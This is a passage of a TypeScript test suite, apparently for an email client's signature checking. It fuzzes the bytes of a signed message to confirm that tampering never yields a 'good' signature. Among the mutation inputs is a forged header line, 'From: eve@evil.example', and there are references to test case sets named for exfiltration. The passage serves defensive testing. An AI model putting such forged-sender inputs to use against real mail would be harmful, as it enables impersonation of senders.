      Subject: 'Lunch',
    })
    const detail = await bert.read(encryptedMime(toBert(payload, anna), byEve()))
    expect(detail).toMatchObject({
      summary: { from: [{ address: anna }], subject: 'Lunch' },
      security: { signature: 'good', signer: { address: anna } },
    })
  })

  test.each([...exfiltration, ...ciphertexts, ...opened, ...wrapping, ...identities, ...signatures])(
    '$name',
    async ({ message, check }) => {
      const detail = await bert.read(await message())
      expect(detail.security.signature).not.toBe('good')
      await check?.(detail)
    },
  )
})

describe('changing bytes of a signed message', () => {
  const visible = (detail: Detail) => ({
    subject: detail.security.headerProtection === 'none' ? null : detail.summary.subject,
    from: detail.summary.from.map(each => each.address),
    text: detail.text,
    html: detail.hasHtml,
    files: detail.attachments.map(each => `${each.fileName} ${each.sizeBytes}`),
    outside: detail.outside,
  })

  /** What no longer begins like a message is not even filed. */
  const readIfMail = (bytes: Uint8Array): Promise<Detail | null> =>
    bert.read(bytes).catch((error: { code?: string }) => {
      if (error.code === 'import-unreadable') return null
      throw error
    })

  test('is never good unless everything shown is as it was', async () => {
    const part = multipart(
      'multipart/mixed; hp="clear"',
      [
        textPart('Wir treffen uns um 10.\n\nAnna'),
        entity({ 'Content-Type': 'text/csv; name="a.csv"', 'Content-Disposition': 'attachment' }, 'a;b'),
      ],
      { From: `Anna <${anna}>`, Subject: 'Treffen' },
      'inside',
    )
    const honest = Buffer.from(signedMime(part, sign(part, anna), from({ Subject: 'Treffen' })))
    const before = await bert.read(honest)
    expect(before.security.signature).toBe('good')
    const byte = fc.integer({ min: 0, max: 255 })
    const place = fc.integer({ min: 0, max: honest.length - 1 })
    const change = fc.oneof(
      fc.record({ kind: fc.constant('replace' as const), place, byte }),
      fc.record({ kind: fc.constant('insert' as const), place, byte }),
      fc.record({ kind: fc.constant('remove' as const), place, byte }),
      fc.record({ kind: fc.constant('line' as const), place, byte }),
    )
    const lines = [
      '\r\n',
      '\r\n--signed\r\n',
      '\r\n--inside\r\n',
      '\r\n--signed--\r\n',
      '\r\nFrom: eve@evil.example\r\n',
    ]
    let good = 0
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 3 }), async changes => {
        let bytes = honest
        for (const { kind, place: at, byte: value } of changes) {
          const put =
            kind === 'line'
              ? Buffer.from(lines[value % lines.length] ?? '')
              : kind === 'remove'
                ? Buffer.alloc(0)
                : Buffer.from([value])
          bytes = Buffer.concat([
            bytes.subarray(0, at),
            put,
            bytes.subarray(at + (kind === 'replace' || kind === 'remove' ? 1 : 0)),
          ])
        }
        // A name of its own, behind everything that counts: equal files are filed once.
        count += 1
        const detail = await readIfMail(Buffer.concat([bytes, Buffer.from(`\r\n${count}`)]))
        if (detail?.security.signature !== 'good') return
        good += 1
        expect(visible(detail)).toEqual(visible(before))
      }),
      { numRuns: 400, seed: 9787 },
    )
    // Some changes touch nothing that is covered; were there none, this would show nothing.
    expect(good).toBeGreaterThan(0)
  })
})
